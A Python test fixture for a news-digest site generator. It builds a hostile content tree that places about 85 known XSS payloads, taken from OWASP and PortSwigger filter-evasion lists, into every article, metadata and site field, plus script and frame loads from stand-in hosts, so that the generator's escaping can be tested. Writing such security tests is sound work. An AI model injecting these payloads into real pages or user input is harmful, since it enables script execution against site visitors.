"""A hostile content tree: known XSS vectors in every field of the content that reaches a page.

Articles come from the open web, so each vector goes everywhere an article, its metadata or the
editor can put text: one story per vector, its three articles (front matter, plain text named by
its file, a saved web page) carrying it in every field, and the site's own fields carrying them
all. Shared by tests/test_security.py (the written HTML) and tests/browser/test_xss_browser.py
(Chromium loading every page).
"""

from __future__ import annotations

import html
import re

import yaml

# Known vectors (OWASP's filter-evasion cheat sheet, PortSwigger's XSS cheat sheet, mutation XSS
# reports): each would open a dialog or set `__xss` on the window if it ever ran.
VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.invalid/x.js></SCRIPT>",
    "<script>self.__xss=1</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="self.__xss=1">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    "<svg onload=alert(1)>",
    "<svg/onload=self.__xss=1>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<body onload=alert(1)>",
    "<body onpageshow=self.__xss=1>",
    "<frameset onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    "<iframe src=//xss.invalid/>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=self.__xss=1>",
    "<textarea autofocus onfocus=alert(1)>",
    "<xss id=x tabindex=1 autofocus onfocus=alert(1)></xss>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    '<div style="width: expression(alert(1))">',
    '<p style="x:expr/**/ession(alert(1))">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>*{background:url("javascript:alert(1)")}</style>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<table background=\"javascript:alert(1)\">",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    "<a href=\"java\tscript:alert(1)\">click</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href=" &#14; javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="https://ok.invalid/" onmouseover=alert(1)>hover</a>',
    '"><script>alert(1)</script>',
    "'><script>self.__xss=1</script>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</p></section></main><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<img """><script>alert(1)</script>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<b>unbalanced <i>tags <div",
    "<!-- an unclosed comment",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:self.__xss=1)",
    "[click](  javascript:alert(1)  )",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "![image](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[click][evil]\n\n[evil]: javascript:alert(1)",
    'A paragraph.\n{: onclick="alert(1)" style="x:expression(alert(1))" }',
    "[click](https://ok.invalid/ \"title\" onclick=alert(1))",
)

# Absolute, so the pages carry canonical addresses and the feed and sitemap are written too.
HOSTILE_BASE_URL = "https://ok.invalid/digest/"

# Where each vector goes: every field of the content that a page shows.
FIELDS = (
    "site title", "site description", "site language",
    "story title", "story tags", "editor's introduction (Markdown)", "boilerplate pattern (shown as a reason)",
    "outlet", "title", "author", "published", "url", "kept metadata",
    "digest sentence", "outlet's own addition", "number disagreement", "quotation (altered)",
    "removed clutter line", "outlet from a .txt file name",
    "web page: site name", "web page: title", "web page: author", "web page: date", "web page: text",
)


def hostile_tree() -> dict[str, str]:
    """The content tree, as {relative path: text} for conftest.write_tree."""
    everything = " ".join(VECTORS)
    files = {"site.yml": _yaml({"title": everything, "description": everything, "language": everything,
                                "base_url": HOSTILE_BASE_URL})}
    for number, vector in enumerate(VECTORS, start=1):
        folder = f"v{number:02d}"
        story = {"title": vector, "date": "2026-01-01", "tags": [vector, "plain"], "note": vector,
                 "settings": {"boilerplate_patterns": ["^Sponsored by " + re.escape(vector)]},
                 "annotations": [{"on": "pays for 15 new teachers", "note": f"{vector} *emphasis*"}]}
        if number == 1:  # a vector can break a quotation's marks: the quotation's note and speaker are here
            story["annotations"].append({"quote": "We will not raise", "note": everything})
            story["corrections"] = [{"speaker": "We will not raise", "to": everything, "reason": everything}]
        files[f"{folder}/story.md"] = _front(
            story, f"{vector}\n\nThe editor's note with [a safe link](https://ok.invalid/) and *emphasis*.\n")
        files[f"{folder}/1-alpha.md"] = _front(
            {"outlet": f"{vector} News", "title": vector, "author": vector, "published": vector,
             "url": "https://evil.invalid/?" + re.sub(r"\s", "", vector), "provenance": vector},
            _body(vector, teachers=12, said="We will not raise taxes this year") +
            f"\nSponsored by {vector}\n\nRelated: {vector}\n")
        files[f"{folder}/{_file_name(vector, number)}"] = _body(vector, teachers=15, said="We will not raise any taxes")
        files[f"{folder}/3-page.html"] = _web_page(vector)
    return files


def _body(vector: str, teachers: int, said: str) -> str:
    """Sentences the outlets share, one with a different number, a quotation, one of their own."""
    return (f"The council approved the city budget on Monday after a long debate about {vector} and taxes.\n\n"
            f"The plan pays for {teachers} new teachers at {vector} schools across the city.\n\n"
            f"\u201c{said}, {vector},\u201d Mayor Jane Smith said after the vote.\n\n"
            f"Officials in Riverton number {teachers} also praised {vector} during the meeting.\n")


def _web_page(vector: str) -> str:
    text = html.escape(vector)
    paragraphs = "".join(f"<p>{html.escape(line)}</p>" for line in
                         _body(vector, teachers=12, said="We will not raise taxes this year").split("\n") if line)
    return (f"<!doctype html><html><head><title>{text}</title>"
            f'<meta property="og:site_name" content="{text} Times">'
            f'<meta property="og:title" content="{text}">'
            f'<meta name="author" content="{text}">'
            f'<meta property="article:published_time" content="{text}">'
            '<link rel="canonical" href="javascript:alert(1)">'
            f"</head><body><article><h1>{text}</h1>{paragraphs}<p>{vector} is quoted raw here, "
            "in the page's own markup, by this page.</p></article></body></html>")


def _file_name(vector: str, number: int) -> str:
    """A .txt file's name is its outlet: a vector that can be a file name is one.

    Each story's outlets are its own, so that no line counts as an outlet's page template.
    """
    name = f"2-{vector}.txt"
    return name if "/" not in vector and "\n" not in vector and len(name.encode()) < 200 else f"2-wire-{number}.txt"


def _front(fields: dict, body: str) -> str:
    return f"---\n{_yaml(fields)}---\n{body}"


def _yaml(fields: dict) -> str:
    return yaml.safe_dump(fields, allow_unicode=True, sort_keys=False, width=10_000)

